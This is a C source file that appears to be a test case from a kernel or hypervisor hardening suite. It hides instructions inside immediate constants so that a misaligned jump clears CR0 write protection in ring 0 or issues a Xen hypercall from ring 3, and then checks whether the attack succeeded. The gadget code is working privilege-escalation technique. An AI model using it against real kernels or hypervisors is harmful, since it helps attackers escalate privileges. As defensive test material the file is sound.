/* SPDX-License-Identifier: BSD-2-Clause */
/* attack: HIDDEN_PRIVILEGE */
/* adversary: A2 */
/* needs: nullpage=on,wx=on */
/* platforms: kvm xen-pv xen-pvh */
/*
 * An overwritten return address leads into the middle of an instruction, whose constant holds the bytes of
 * another one: in ring 0 a load of CR0, which makes constants writable; in ring 3 a call of what is below.
 */
#include "attack.h"

/* CR0.WP (Intel SDM vol. 3, 2.5). */
#define CR0_WP 0x10000u
/* xen.h: __HYPERVISOR_xen_version, whose command 0 gives the version, the major one from bit 16 on. */
#define XEN_VERSION 17
#define XEN_MAJOR_SHIFT 16

static const volatile int constant = 1;

/* mov $0xc3c0220f, %eax; behind its first byte: mov %rax, %cr0; ret. */
static __attribute__((naked, used)) int hidden_load(void)
{
	__asm__("movl $0xc3c0220f, %eax\n\tret\n\tint3");
}

/* mov $0x90c3050f, %eax; behind its first byte: syscall; ret. */
static __attribute__((naked, used)) int hidden_call(void)
{
	__asm__("movl $0x90c3050f, %eax\n\tret\n\tint3");
}

/* Returns to `to`, as if it stood where a return address was; what runs there comes back. */
static uintptr_t enter(uintptr_t to, uintptr_t rax, uintptr_t rdi)
{
	/* C has no way to return to a number. */
	__asm__ volatile("leaq 1f(%%rip), %%rdx\n\t"
			 "pushq %%rdx\n\t"
			 "pushq %2\n\t"
			 "ret\n\t"
			 "int3\n"
			 "1:"
			 : "+a"(rax), "+D"(rdi)
			 : "r"(to)
			 : "rcx", "rdx", "rsi", "r10", "r11", "memory");
	return rax;
}

int main(void)
{
	uintptr_t cr0;
	uint16_t cs;

	if (hidden_load() == 0 || hidden_call() == 0)
		return 1;
	attack_control_ok();
	__asm__("movw %%cs, %0" : "=r"(cs)); /* C cannot read it */
	if (cs & 3) {
		if (enter((uintptr_t)attack_launder((const void *)hidden_call) + 1, XEN_VERSION,
			  0) >>
		    XEN_MAJOR_SHIFT < UINT16_MAX)
			attack_succeeded();
		return 0;
	}
	__asm__ volatile("movq %%cr0, %0" : "=r"(cr0)); /* C cannot read it */
	enter((uintptr_t)attack_launder((const void *)hidden_load) + 1, cr0 & ~(uintptr_t)CR0_WP,
	      0);
	*(int *)attack_launder((const void *)&constant) = 2;
	if (constant == 2)
		attack_succeeded();
	return 0;
}
